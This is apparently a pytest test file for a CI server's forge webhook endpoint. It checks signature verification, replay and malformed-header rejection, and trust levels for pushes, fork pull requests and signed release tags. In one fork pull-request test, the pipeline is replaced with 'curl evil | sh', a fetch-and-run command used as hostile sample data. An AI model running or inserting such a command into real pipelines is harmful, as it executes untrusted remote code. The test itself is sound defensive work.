"""Forge webhooks (issue 14): every refusal starts no run; accepted deliveries queue a run
of the commit the server fetched itself, with the trust the server decided."""

from __future__ import annotations

import base64
import hashlib
import hmac
import subprocess
import uuid
import warnings
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from bastion.engine.model import RunId
from bastion.home import bastion_home
from bastion.server import (
    Accounts,
    Grant,
    Role,
    ScopeKind,
    ServerServices,
    ServerSettings,
    create_app,
    webhook_fetch,
)
from bastion.server.launcher import RunRequest
from bastion.server.trust_policy import decide_trust
from bastion.server.webhook_signatures import Forge
from bastion.server.webhook_store import Deliveries, Webhooks
from bastion.store import open_database, sqlite_url
from bastion.trust import Trust
from tests.server.conftest import Clock, ListSink, Server
from tests.server.webhook_payloads import (
    body_of,
    gitea_pull,
    gitea_push,
    github_pull,
    github_push,
    gitlab_merge_request,
    hub_signature,
)

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

SECRET = "webhook-secret-0123456789"
PIPELINE = "name: t\non: [push]\njobs:\n  a:\n    steps:\n      - run: echo hi\n"


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout.strip()


@dataclass
class RecordingLauncher:
    """The launcher interface: keeps each request, queues nothing."""

    requests: list[RunRequest] = field(default_factory=list)

    def submit(self, request: RunRequest) -> RunId:
        self.requests.append(request)
        return RunId(len(self.requests))

    def cancel(self, run_id: int) -> bool:
        return False

    def close(self) -> None:
        return None

    def trust(self, index: int = -1) -> Trust:
        forge = self.requests[index].forge
        assert forge is not None
        return decide_trust(forge.facts)


@dataclass
class Forged:
    """A server, the forge's repository (a work tree pushed to a bare one) and the mirror."""

    server: Server
    launcher: RecordingLauncher
    work: Path
    forge_repo: Path
    mirror: Path

    def commit(self, message: str, **files: str) -> str:
        for name, text in files.items():
            target = self.work / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
        git(self.work, "add", ".")
        git(self.work, "commit", "-q", "--allow-empty", "-m", message)
        return git(self.work, "rev-parse", "HEAD")

    def push(self, *refspecs: str) -> None:
        git(self.work, "push", "-q", "-f", str(self.forge_repo), *refspecs)

    def post(self, forge: str, headers: dict[str, str], body: bytes, repo: str = "app") -> Any:
        return self.server.client.post(
            f"/api/webhooks/{forge}/{repo}", content=body, headers=headers
        )

    def github(
        self, event: str, payload: dict[str, Any], delivery: str | None = None, secret: str = SECRET
    ) -> Any:
        body = body_of(payload)
        headers = {
            "X-GitHub-Event": event,
            "X-GitHub-Delivery": delivery or str(uuid.uuid4()),
            "X-Hub-Signature-256": hub_signature(secret, body),
            "Content-Type": "application/json",
        }
        return self.post("github", headers, body)


def make_forged(tmp_path: Path, forge: Forge = Forge.GITHUB, **config: Any) -> Forged:
    db = open_database(sqlite_url(tmp_path / "server.db"))
    clock, audit, launcher = Clock(), ListSink(), RecordingLauncher()
    settings = ServerSettings("127.0.0.1", 8080, "unused")
    app = create_app(settings, ServerServices(db, audit, clock, launcher=launcher))
    client = TestClient(app, base_url="http://testserver")
    server = Server(client, db, audit, clock, Accounts(db, settings, clock), settings)
    work, forge_repo, mirror = tmp_path / "work", tmp_path / "forge.git", tmp_path / "mirror.git"
    git(tmp_path, "init", "-q", "--bare", str(forge_repo))
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(mirror))
    work.mkdir()
    git(work, "init", "-q", "-b", "main")
    git(work, "config", "user.email", "dev@example.com")
    git(work, "config", "user.name", "Dev")
    made = Forged(server, launcher, work, forge_repo, mirror)
    made.commit("pipeline", **{".bastion/pipeline.yml": PIPELINE})
    made.push("main")
    app.state.bastion.repositories.register(
        "app", str(mirror), added_by="setup", default_branch="main"
    )
    url = config.pop("clone_url", f"file://{forge_repo}")
    Webhooks(db).configure("app", forge, SECRET, url, **config)
    return made


@pytest.fixture
def forged(tmp_path: Path) -> Iterator[Forged]:
    made = make_forged(tmp_path)
    try:
        yield made
    finally:
        made.server.client.close()
        made.server.db.dispose()


def test_a_signed_push_to_the_protected_branch_queues_a_trusted_run(forged: Forged) -> None:
    head = git(forged.work, "rev-parse", "HEAD")
    response = forged.github("push", github_push("refs/heads/main", head))
    assert response.status_code == 202, response.text
    assert response.json()["status"] == "queued"
    request = forged.launcher.requests[0]
    assert request.forge is not None
    assert (request.forge.commit, request.forge.ref, request.event) == (
        head,
        "refs/heads/main",
        "push",
    )
    assert forged.launcher.trust() is Trust.TRUSTED
    # Fetched into the server's own namespace, not refs/heads (the watcher starts nothing).
    assert git(forged.mirror, "rev-parse", "refs/bastion/forge/heads/main") == head
    assert git(forged.mirror, "for-each-ref", "refs/heads") == ""
    assert "run.triggered" in forged.server.audit.actions()


def test_a_forged_signature_is_401_audited_and_starts_nothing(forged: Forged) -> None:
    head = git(forged.work, "rev-parse", "HEAD")
    response = forged.github("push", github_push("refs/heads/main", head), secret="x" * 20)
    assert response.status_code == 401
    assert forged.launcher.requests == []
    assert forged.server.audit.actions() == ["webhook.forged"]
    # A body changed after signing is forged too.
    body = body_of(github_push("refs/heads/main", head))
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-tampered",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
    }
    assert forged.post("github", headers, body.replace(b"alice", b"mallo")).status_code == 401
    assert forged.launcher.requests == []


def test_a_replayed_delivery_is_409_and_starts_nothing(forged: Forged) -> None:
    head = git(forged.work, "rev-parse", "HEAD")
    payload = github_push("refs/heads/main", head)
    assert forged.github("push", payload, delivery="d-1").status_code == 202
    replay = forged.github("push", payload, delivery="d-1")
    assert replay.status_code == 409
    assert len(forged.launcher.requests) == 1
    assert "webhook.replayed" in forged.server.audit.actions()


@pytest.mark.parametrize("drop", ["X-GitHub-Event", "X-GitHub-Delivery", "X-Hub-Signature-256"])
def test_missing_headers_are_400(forged: Forged, drop: str) -> None:
    body = body_of(github_push("refs/heads/main", "a" * 40))
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-2",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
    }
    del headers[drop]
    assert forged.post("github", headers, body).status_code == 400
    assert forged.launcher.requests == []


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("X-Hub-Signature-256", "sha1=" + "0" * 40),
        ("X-Hub-Signature-256", "sha256=zz"),
        ("X-GitHub-Delivery", "bad id with spaces"),
    ],
)
def test_malformed_headers_are_400(forged: Forged, header: str, value: str) -> None:
    body = body_of(github_push("refs/heads/main", "a" * 40))
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-3",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
        header: value,
    }
    assert forged.post("github", headers, body).status_code == 400
    assert forged.launcher.requests == []


def test_a_malformed_signed_payload_is_400_and_recorded(forged: Forged) -> None:
    body = b'{"ref": 5}'
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-4",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
    }
    assert forged.post("github", headers, body).status_code == 400
    status = Deliveries(forged.server.db, forged.server.clock).status(Forge.GITHUB, "d-4")
    assert status is not None
    assert status[0] == "failed"
    assert forged.launcher.requests == []


def test_an_oversize_delivery_is_413(forged: Forged) -> None:
    body = b"{" + b" " * (forged.server.settings.max_body_bytes + 1) + b"}"
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-5",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
    }
    assert forged.post("github", headers, body).status_code == 413
    assert forged.launcher.requests == []


def test_an_unknown_repository_or_forge_is_404(forged: Forged) -> None:
    head = git(forged.work, "rev-parse", "HEAD")
    body = body_of(github_push("refs/heads/main", head))
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": "d-6",
        "X-Hub-Signature-256": hub_signature(SECRET, body),
    }
    assert forged.post("github", headers, body, repo="nope").status_code == 404
    assert forged.post("bitbucket", headers, body).status_code == 404
    # The repository's webhook is GitHub's: a Gitea delivery for it is unknown too.
    gitea = {
        "X-Gitea-Event": "push",
        "X-Gitea-Delivery": "d-7",
        "X-Gitea-Signature": hub_signature(SECRET, body)[7:],
    }
    assert forged.post("gitea", gitea, body).status_code == 404
    assert forged.launcher.requests == []


def test_an_unfetchable_commit_is_recorded_failed_and_a_redelivery_succeeds(
    forged: Forged,
) -> None:
    later = forged.commit("not pushed yet")
    payload = github_push("refs/heads/main", later)
    failed = forged.github("push", payload, delivery="d-8")
    assert failed.status_code == 502
    status = Deliveries(forged.server.db, forged.server.clock).status(Forge.GITHUB, "d-8")
    assert status is not None
    assert status[0] == "failed"
    assert "is not on refs/heads/main" in str(status[1])
    assert forged.launcher.requests == []
    assert "webhook.failed" in forged.server.audit.actions()
    forged.push("main")
    retried = forged.github("push", payload, delivery="d-8")
    assert retried.status_code == 202, retried.text
    assert [r.forge.commit for r in forged.launcher.requests if r.forge] == [later]


def test_an_ignored_event_is_recorded_and_starts_nothing(forged: Forged) -> None:
    assert forged.github("ping", {"zen": "hi", "hook_id": 1}).json()["status"] == "ignored"
    head = git(forged.work, "rev-parse", "HEAD")
    closed = github_pull("closed", 1, head)
    assert forged.github("pull_request", closed).json()["status"] == "ignored"
    deleted = github_push("refs/heads/old", "0" * 40)
    assert forged.github("push", deleted).json()["status"] == "ignored"
    assert forged.launcher.requests == []


def test_a_push_to_an_unprotected_branch_is_internal(forged: Forged) -> None:
    head = forged.commit("feature work", **{"src.txt": "x"})
    forged.push("HEAD:refs/heads/feature")
    assert forged.github("push", github_push("refs/heads/feature", head)).status_code == 202
    assert forged.launcher.trust() is Trust.INTERNAL


def test_a_push_that_changes_the_pipeline_is_untrusted(forged: Forged) -> None:
    head = forged.commit("pipeline edit", **{".bastion/pipeline.yml": PIPELINE + "# x\n"})
    forged.push("HEAD:refs/heads/feature")
    assert forged.github("push", github_push("refs/heads/feature", head)).status_code == 202
    assert forged.launcher.trust() is Trust.UNTRUSTED


def _pull_request(forged: Forged, number: int, pipeline: str = PIPELINE) -> str:
    base = git(forged.work, "rev-parse", "HEAD")
    head = forged.commit("pr", **{".bastion/pipeline.yml": pipeline, "f.txt": "1"})
    forged.push(f"HEAD:refs/pull/{number}/head")
    git(forged.work, "reset", "-q", "--hard", base)
    return head


def test_a_fork_pull_request_is_untrusted_and_configured_from_the_base(forged: Forged) -> None:
    forged.server.add_user("alice", None)
    forged.server.accounts.grant("alice", Grant(Role.DEVELOPER, ScopeKind.REPOSITORY, "app"))
    base = git(forged.work, "rev-parse", "HEAD")
    head = _pull_request(forged, 7, PIPELINE.replace("echo hi", "curl evil | sh"))
    payload = github_pull("opened", 7, head, head_repo="mallory/app")
    assert forged.github("pull_request", payload).status_code == 202
    trigger = forged.launcher.requests[-1].forge
    assert trigger is not None
    assert (trigger.commit, trigger.config_commit, trigger.ref) == (head, base, "refs/pull/7/head")
    assert forged.launcher.trust() is Trust.UNTRUSTED


def test_a_same_repository_pull_request_by_a_developer_is_internal(forged: Forged) -> None:
    forged.server.add_user("alice", None)
    forged.server.accounts.grant("alice", Grant(Role.DEVELOPER, ScopeKind.REPOSITORY, "app"))
    head = _pull_request(forged, 8)
    assert forged.github("pull_request", github_pull("synchronize", 8, head)).status_code == 202
    assert forged.launcher.trust() is Trust.INTERNAL
    # The same request by someone without the role (an unknown login, a viewer) is untrusted.
    forged.server.add_user("victor", Role.VIEWER)
    for author in ("stranger", "victor"):
        payload = github_pull("reopened", 8, head, author=author)
        assert forged.github("pull_request", payload).status_code == 202
        assert forged.launcher.trust() is Trust.UNTRUSTED


def test_a_pull_request_head_sha_not_on_the_pull_ref_is_refused(forged: Forged) -> None:
    _pull_request(forged, 9)
    other = forged.commit("elsewhere")
    response = forged.github("pull_request", github_pull("opened", 9, other))
    assert response.status_code == 502
    assert forged.launcher.requests == []


def _sign_key(tmp_path: Path, name: str) -> Path:
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    return key


def _signed_tag(forged: Forged, key: Path, tag: str) -> None:
    git(
        forged.work,
        "-c",
        "gpg.format=ssh",
        "-c",
        f"user.signingkey={key}",
        "tag",
        "-s",
        "-m",
        tag,
        tag,
    )
    forged.push(f"refs/tags/{tag}")


def test_a_tag_signed_by_an_allowed_signer_on_main_is_a_release(
    forged: Forged, tmp_path: Path
) -> None:
    key, stranger = _sign_key(tmp_path, "release"), _sign_key(tmp_path, "stranger")
    signers = bastion_home() / "allowed_signers"
    signers.parent.mkdir(parents=True, exist_ok=True)
    signers.write_text("dev@example.com " + Path(f"{key}.pub").read_text())
    _signed_tag(forged, key, "v1")
    tag_object = git(forged.work, "rev-parse", "v1")
    assert forged.github("push", github_push("refs/tags/v1", tag_object)).status_code == 202
    assert forged.launcher.trust() is Trust.RELEASE
    # Signed by a key the server does not allow, or not signed at all: not a release.
    _signed_tag(forged, stranger, "v2")
    v2 = git(forged.work, "rev-parse", "v2")
    assert forged.github("push", github_push("refs/tags/v2", v2)).status_code == 202
    assert forged.launcher.trust() is Trust.INTERNAL
    git(forged.work, "tag", "-a", "-m", "v3", "v3")
    forged.push("refs/tags/v3")
    v3 = git(forged.work, "rev-parse", "v3")
    assert forged.github("push", github_push("refs/tags/v3", v3)).status_code == 202
    assert forged.launcher.trust() is Trust.INTERNAL


def _gitlab_headers(event: str, delivery: str, token: str = SECRET) -> dict[str, str]:
    return {"X-Gitlab-Event": event, "X-Gitlab-Event-UUID": delivery, "X-Gitlab-Token": token}


def test_gitlab_token_and_fork_merge_request(tmp_path: Path) -> None:
    made = make_forged(tmp_path, Forge.GITLAB)
    head = _pull_request_gitlab(made, 3)
    body = body_of(gitlab_merge_request("open", 3, head, fork=True))
    wrong = made.post("gitlab", _gitlab_headers("Merge Request Hook", "g-1", "x" * 20), body)
    assert wrong.status_code == 401
    ok = made.post("gitlab", _gitlab_headers("Merge Request Hook", "g-2"), body)
    assert ok.status_code == 202, ok.text
    assert made.launcher.trust() is Trust.UNTRUSTED
    # An edit of the title (no oldrev) starts nothing.
    edit = body_of(gitlab_merge_request("update", 3, head, oldrev=None))
    assert (
        made.post("gitlab", _gitlab_headers("Merge Request Hook", "g-3"), edit).json()["status"]
        == "ignored"
    )
    made.server.client.close()


def _pull_request_gitlab(made: Forged, iid: int) -> str:
    base = git(made.work, "rev-parse", "HEAD")
    head = made.commit("mr", **{"f.txt": "1"})
    made.push(f"HEAD:refs/merge-requests/{iid}/head")
    git(made.work, "reset", "-q", "--hard", base)
    return head


def _standard_signature(key: bytes, wid: str, stamp: int, body: bytes) -> str:
    digest = hmac.new(key, f"{wid}.{stamp}.".encode() + body, hashlib.sha256).digest()
    return "v1," + base64.b64encode(digest).decode()


def test_gitlab_signed_webhooks_are_required_where_configured(tmp_path: Path) -> None:
    raw = b"k" * 32
    made = make_forged(
        tmp_path, Forge.GITLAB, signing_key="whsec_" + base64.b64encode(raw).decode()
    )
    head = git(made.work, "rev-parse", "HEAD")
    body = body_of(
        {"object_kind": "push", "ref": "refs/heads/main", "after": head, "user_username": "alice"}
    )
    plain = made.post("gitlab", _gitlab_headers("Push Hook", "s-1"), body)
    assert plain.status_code == 401  # the token alone no longer suffices
    import time

    stamp = int(time.time())
    signed = _gitlab_headers("Push Hook", "s-2") | {
        "webhook-id": "msg_1",
        "webhook-timestamp": str(stamp),
        "webhook-signature": _standard_signature(raw, "msg_1", stamp, body),
    }
    assert made.post("gitlab", signed, body).status_code == 202
    stale = _gitlab_headers("Push Hook", "s-3") | {
        "webhook-id": "msg_2",
        "webhook-timestamp": str(stamp - 3600),
        "webhook-signature": _standard_signature(raw, "msg_2", stamp - 3600, body),
    }
    assert made.post("gitlab", stale, body).status_code == 401
    assert len(made.launcher.requests) == 1
    made.server.client.close()


def test_gitea_over_git_daemon_on_loopback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    port = _free_port()
    base = tmp_path / "served"
    base.mkdir()
    made = make_forged(tmp_path, Forge.GITEA, clone_url=f"git://127.0.0.1:{port}/forge.git")
    daemon = subprocess.Popen(
        [
            "git",
            "daemon",
            "--reuseaddr",
            "--export-all",
            "--listen=127.0.0.1",
            f"--port={port}",
            f"--base-path={tmp_path}",
            str(tmp_path),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        _wait_for_port(port)
        head = git(made.work, "rev-parse", "HEAD")
        body = body_of(gitea_push("refs/heads/main", head))
        headers = {
            "X-Gitea-Event": "push",
            "X-Gitea-Delivery": "t-1",
            "X-Gitea-Signature": hub_signature(SECRET, body)[7:],
        }
        refused = made.post("gitea", headers, body)  # the server does not fetch from itself
        assert refused.status_code == 502, refused.text
        assert "127.0.0.1, a loopback address" in refused.text
        # The git:// transport is what this test is about: lift the address rule for it.
        monkeypatch.setattr(webhook_fetch, "check_clone_host", lambda url: None)
        response = made.post("gitea", headers, body)  # a redelivery of the failed one
        assert response.status_code == 202, response.text
        assert made.launcher.trust() is Trust.TRUSTED
        pr_head = _pull_request(made, 4)
        made.server.add_user("alice", Role.DEVELOPER)
        body = body_of(gitea_pull("synchronized", 4, pr_head))
        headers = {
            "X-Forgejo-Event": "pull_request",
            "X-Forgejo-Delivery": "t-2",
            "X-Forgejo-Signature": hub_signature(SECRET, body)[7:],
        }
        assert made.post("gitea", headers, body).status_code == 202
        assert made.launcher.trust() is Trust.INTERNAL
    finally:
        daemon.terminate()
        daemon.wait(10)
        made.server.client.close()


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def _wait_for_port(port: int) -> None:
    import socket
    import time

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.05)
    raise AssertionError("git daemon did not start")
